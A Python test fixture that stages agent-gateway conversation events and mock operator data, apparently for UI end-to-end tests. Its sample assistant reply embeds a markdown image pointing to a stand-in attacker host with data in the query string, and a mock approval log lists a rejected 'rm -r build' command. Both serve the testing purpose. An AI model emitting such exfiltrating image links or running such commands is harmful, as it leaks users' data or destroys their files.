"""States of a conversation, as a gateway sends them."""

from __future__ import annotations

import base64
from datetime import UTC, datetime, timedelta
from typing import Any

from tests.e2e.stage import Stage

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
"""A PNG of one pixel in base64."""

REPLY = f"""# Result

The load is **40 t**, see [the data](https://example.org/data) and `load.py`.

### Values

| crane | load | radius | height | wind limit | ground pressure |
|---|---:|---:|---:|---:|---:|
| north | 40 t | 12.5 m | 61 m | 13 m/s | 120 kPa |
| south | 32 t | 14.0 m | 58 m | 13 m/s | 110 kPa |

The moment is $M = F \\cdot r$, at $5 per hour:

$$
\\frac{{40 \\cdot 9.81}}{{2}} = 196.2
$$

![A chart](plots/load.png)

![Inline](data:image/png;base64,{PIXEL})

![Elsewhere](https://evil.example/leak.png?data=1)

- [x] checked
- [ ] open

> A quotation.

```python
def load(mass: float) -> float:
    \"\"\"Return the load in N.\"\"\"
    return mass * 9.81  # gravity
```
"""


def start(stage: Stage, message: str = "How large is the load?", *, model: str = "demo:model") -> None:
    """Begin a run."""
    data = {"message_id": "m1", "message": message, "model": model, "limits": {"max_iterations": 10}}
    stage.event("conversation.updated", {"title": "The load of the crane"}, run_id=None)
    stage.event("run.started", data)


def call(stage: Stage, id: str, name: str, arguments: dict[str, Any], **result: Any) -> None:
    """Request a call; with a result, complete it too."""
    stage.event("tool_call.requested", {"tool_call_id": id, "name": name, "arguments": arguments})
    if result:
        completed = {"tool_call_id": id, "is_error": False, "content": {}, "duration_ms": 120, **result}
        stage.event("tool_call.completed", completed)


def reply(stage: Stage, text: str, **fields: Any) -> None:
    """Complete a message of the agent."""
    number = len(stage.frames)
    stage.event(
        "message.completed", {"message_id": f"a{number}", "role": "assistant", "content": text, **fields}
    )


def finish(
    stage: Stage, status: str = "completed", content: str = "", error: dict[str, str] | None = None
) -> None:
    """End the run."""
    usage = {"input_tokens": 1200, "output_tokens": 340, "cached_tokens": 100, "cost_usd": 0.0123}
    data = {"status": status, "content": content, "model": "demo:model", "iterations": 2, "usage": usage}
    stage.event("run.finished", {**data, "error": error})


def request_approval(stage: Stage, *items: dict[str, Any]) -> None:
    """Request a decision on calls."""
    for item in items:
        call(stage, item["tool_call_id"], item["name"], item["arguments"])
    request = {"approval_id": "p1", "expires_at": "2099-01-01T00:00:00Z", "items": list(items)}
    stage.event("approval.requested", request)


def command(number: int) -> dict[str, Any]:
    """Return one item of an approval request: a command."""
    arguments = {"command": "\n".join(f"echo {number} {line}" for line in range(8))}
    preview = {"kind": "command", "command": arguments["command"]}
    return {**_item(f"k{number}", "bash", arguments), "preview": preview}


def write(path: str, old: str, new: str) -> dict[str, Any]:
    """Return one item of an approval request: a changed file."""
    preview = {"kind": "diff", "path": path, "old": old, "new": new}
    return {**_item("w1", "write_file", {"path": path, "content": new}), "preview": preview}


def _item(id: str, name: str, arguments: dict[str, Any]) -> dict[str, Any]:
    return {
        "tool_call_id": id,
        "name": name,
        "arguments": arguments,
        "digest": f"digest-of-{id}",
        "editable": True,
    }


def pending(number: int) -> dict[str, Any]:
    """Return an open request of another conversation, as the list has it."""
    now = datetime.now(UTC)
    return {
        "approval_id": f"p{number}",
        "conversation_id": f"c{number}",
        "run_id": f"c{number}-r1",
        "title": f"Crane {number}",
        "requested_by": "grace",
        "requested_at": now.isoformat(),
        "expires_at": (now + timedelta(days=2, minutes=1)).isoformat(),
        "items": [command(number)],
        "for_you": True,
    }


def conversation(stage: Stage) -> None:
    """A conversation with everything that a reply may hold, calls of each kind, and an open request."""
    stage.resources["context/conversations/c1/files/plots/load.png"] = base64.b64decode(PIXEL)
    start(stage)
    stage.event("iteration.started", {"n": 1, "max": 10})
    call(stage, "r1", "read_file", {"path": "load.py"}, content={"content": "mass = 40"})
    call(stage, "r2", "bash", {"command": "false"}, is_error=True, error_kind="tool_error", exit_code=1)
    reply(stage, REPLY)
    stage.event("workspace.changed", {"paths": [{"path": "plots/load.png", "change": "created"}]})
    stage.event("protocol.retry", {"attempt": 1, "max": 3, "error": "A brace is missing."})
    stage.event("input.requested", {"request_id": "i1", "message": "Which crane?", "schema": FORM})
    items = [command(1), write("notes.md", "one\ntwo\n", "one\nthree\n")]
    request_approval(stage, *items)


def ended(stage: Stage) -> None:
    """Runs that ended in each way other than success, and one of a workflow."""
    start(stage)
    reply(stage, "The first half of a", partial=True)
    text = "The run was cancelled."
    finish(stage, "cancelled", text, {"code": "cancelled", "message": text})
    stage.event(
        "run.started", {"message_id": "m2", "message": "Again", "model": "demo:model"}, run_id="c1-r2"
    )
    error = {"code": "provider_error", "message": "The model is overloaded."}
    failed = {"status": "failed", "content": error["message"], "model": "demo:model", "error": error}
    stage.event("run.finished", failed, run_id="c1-r2")


FORM = {
    "type": "object",
    "properties": {
        "name": {"type": "string", "title": "Name", "pattern": "^[a-z]{1,20}$", "description": "Its name."},
        "kind": {"type": "string", "title": "Kind", "enum": ["tower", "mobile"]},
        "height": {"type": "number", "title": "Height"},
        "checked": {"type": "boolean", "title": "Checked"},
        "notes": {"type": "string", "title": "Notes", "format": "textarea"},
    },
    "required": ["name", "kind"],
}

KEY: dict[str, Any] = {
    "id": "k1",
    "tenant": "local",
    "user": "grace",
    "name": "laptop",
    "rights": ["chat", "approve"],
    "modes": ["context"],
    "created_at": "2026-01-02T10:00:00Z",
    "created_by": "ada",
    "expires_at": None,
}

PROVIDER: dict[str, Any] = {
    "issuer": "https://id.example.org/acme",
    "on_page": True,
    "tenant": "acme",
    "tenant_claim": "org",
    "default_tenant": False,
    "rights_claim": "realm.roles",
    "roles": [
        {"value": "staff", "rights": ["chat"]},
        {"value": "admins", "rights": ["admin"]},
        {"value": "leads", "rights": ["chat", "approve"]},
    ],
    "default_rights": [],
}
"""A provider without a role for all of `chat`, `approve` and `admin`."""

SCHEDULE: dict[str, Any] = {
    "id": "s1",
    "title": "Morning report",
    "start": {"type": "prompt", "content": "Say good morning.", "conversation_id": None},
    "at": None,
    "cron": "0 9 * * 1-5",
    "timezone": "Europe/Berlin",
    "missed": "run_once",
    "paused": False,
    "next_at": "2026-01-05T08:00:00Z",
    "last_run": {
        "at": "2026-01-02T08:00:00Z",
        "result": "started",
        "status": None,
        "conversation_id": "c2",
        "error": None,
    },
}


def tenant(name: str, *, max_tokens: int | None = None, **limits: int) -> dict[str, Any]:
    """Return a tenant that consumed something, as an operator sees it."""
    consumed = {"requests": 2, "input_tokens": 4_000, "output_tokens": 500, "cost_usd": 0.75}
    window = {"begins": "2026-01-05", "ends_at": "2026-01-06T00:00:00Z", **consumed}
    return {
        "tenant": name,
        "as_of": "2026-01-05T08:00:00Z",
        "windows": [
            {"window": "day", **window, "max_tokens": max_tokens, "max_cost_usd": None},
            {"window": "month", **window, "max_tokens": None, "max_cost_usd": 5},
        ],
        "stored_bytes": 48_000,
        "keys": 3,
        "runs": {"queued": 2, "queued_workflows": 0, "parked": 1},
        "limits": {"cost_usd_per_month": 5, **limits},
    }


def entry(number: int, action: str, target: str, **details: Any) -> dict[str, Any]:
    """Return an entry of the audit trail."""
    return {
        "id": number,
        "ts": f"2026-01-05T08:00:0{number}Z",
        "tenant": "local",
        "actor": "alice",
        "actor_tenant": None,
        "interface": "http",
        "action": action,
        "target": target,
        "details": details,
    }


def decision(number: int, outcome: str, *calls: tuple[str, str, str | None], **more: Any) -> dict[str, Any]:
    """Return a decided approval request; its calls are tool, line and decision."""
    return {
        "id": number,
        "approval_id": f"c1-r1-a{number}",
        "conversation_id": "c1",
        "run_id": "c1-r1",
        "title": "Cranes",
        "outcome": outcome,
        "by": "alice",
        "first_by": None,
        "at": f"2026-01-05T08:00:0{number}Z",
        "interface": "websocket",
        "remember": None,
        "calls": [
            {"tool": tool, "call": call, "decision": decided, "covers": None, "begins": None}
            for tool, call, decided in calls
        ],
        "more": 0,
        **more,
    }


def process(service: str, pid: int, **more: Any) -> dict[str, Any]:
    """Return a process as it reports itself to an operator."""
    return {
        "service": service,
        "host": "node-1",
        "pid": pid,
        "version": "1.0.0",
        "started_at": "2026-01-05T08:00:00Z",
        "reported_at": "2026-01-05T09:00:00Z",
        "responds": True,
        "ready": True,
        "problems": {},
        "warnings": {},
        "used": 3,
        "places": None,
        **more,
    }


def open_run(number: int, tenant: str) -> dict[str, Any]:
    """Return a run that has not ended, as an operator sees it."""
    ids = {"conversation_id": f"c{number}", "run_id": f"c{number}-r1"}
    return {"id": number, "tenant": tenant, "since": f"2026-01-0{number}T08:00:00Z", **ids}


COMING: dict[str, Any] = {
    "schedule_id": "s1",
    "starts": [(datetime.now(UTC) + timedelta(days=number)).isoformat() for number in (1, 1, 2, 5)],
    "more": True,
}
RESOURCES: dict[str, Any] = {
    "context/keys": {"items": [KEY]},
    "context/schedules": {"items": [SCHEDULE]},
    "context/schedules/coming": {"items": [COMING]},
    "operator/overview": {
        "streams": [{"name": "EVENTS", "messages": 12000, "bytes": 9_000_000, "max_bytes": 10_000_000}],
        "queues": [
            {"stream": "RUNS", "name": "agents", "waiting": 3, "in_progress": 2, "redelivered": 0},
        ],
        "runners": [
            {
                "name": "r1",
                "load": 2,
                "workspaces": True,
                "serving": True,
                "problem": None,
                "places": 8,
                "version": "1.0.0",
                "started_at": "2026-01-05T08:00:00Z",
            },
            {"name": "r2", "load": 0, "workspaces": True, "serving": False, "problem": "no sandbox"},
        ],
    },
    "v1/audit": {
        "items": [
            entry(2, "policy.changed", "", revision=3),
            entry(1, "key.created", "key-1", user="ann", rights=["chat", "approve"], expires_at=None),
        ],
        "next": None,
    },
    "context/decisions": {
        "items": [
            decision(3, "mixed", ("bash", "git push", "edited"), ("bash", "rm -r build", "rejected")),
            decision(2, "expired", ("write_file", "a.txt", None), by="system", interface="system"),
            decision(1, "approved", ("bash", "", "approved"), title="", first_by="ann", remember="run"),
        ],
        "next": None,
    },
    "operator/services": {
        "processes": [
            process("agent", 11, places=32),
            process("agent", 12, ready=False, problems={"streams": "stream RUNS is missing"}),
            process("gateway", 13),
            process("workflows", 14, responds=False),
        ],
        "nats": {
            "version": "2.11.0",
            "servers": [
                {"name": "n1", "leads": True, "reachable": True, "lag": 0},
                {"name": "n2", "leads": False, "reachable": False, "lag": 41},
            ],
            "used_bytes": 9_000_000,
            "max_bytes": 90_000_000,
            "problem": None,
        },
    },
    "operator/tenants": {
        "items": [tenant("acme", max_tokens=5_000, running_runs=3), tenant("local")],
        "next": None,
    },
    "operator/runs?state=awaiting_approval": {
        "items": [open_run(2, "acme"), open_run(3, "local")],
        "next": None,
    },
    "operator/runs?state=queued": {"items": [open_run(1, "acme")], "next": 1},
    "operator/runs?state=queued&after=1": {"items": [open_run(4, "zeta")], "next": None},
    "operator/dead-letters/8": {
        "id": 8,
        "subject": "commits.local.c8",
        "stream": "EVENTS",
        "reason": "the settings cannot be read",
        "ts": "2026-01-02T10:00:00Z",
        "can_replay": False,
        "headers": {"Nats-Msg-Id": "m8"},
        "payload": '{"run_id":"c8-r1","text":"<b>bold</b>"}',
        "payload_bytes": 40_000,
    },
    "operator/dead-letters": {
        "items": [
            {
                "id": number,
                "subject": f"run.work.local.c{number}",
                "stream": "RUNS",
                "reason": "the settings cannot be read",
                "ts": "2026-01-02T10:00:00Z",
                "can_replay": number == 7,
            }
            for number in (7, 8)
        ],
        "next": None,
    },
    "context/conversations": {
        "items": [
            {"conversation_id": "c1", "title": "The load of the crane", "status": "awaiting_approval"},
            {"conversation_id": "c2", "title": "Older", "updated_at": "2026-01-02T10:00:00Z"},
        ]
    },
    "context/conversations/c1/files": {
        "items": [
            {"path": "plots/load.png", "size": 70, "modified_at": "2026-01-02T10:00:00Z"},
            {"path": "load.py", "size": 1200, "modified_at": "2026-01-02T10:00:00Z"},
        ]
    },
    "context/conversations/c1/files/load.py": b"def load(mass):\n    return mass * 9.81\n",
    "workflows/categories": {
        "items": [
            {
                "name": "project",
                "title": "Project",
                "workflows": [
                    {
                        "name": "inspect",
                        "title": "Inspect a crane",
                        "description": "Writes a report.",
                        "parameters_schema": FORM,
                    }
                ],
            }
        ]
    },
}
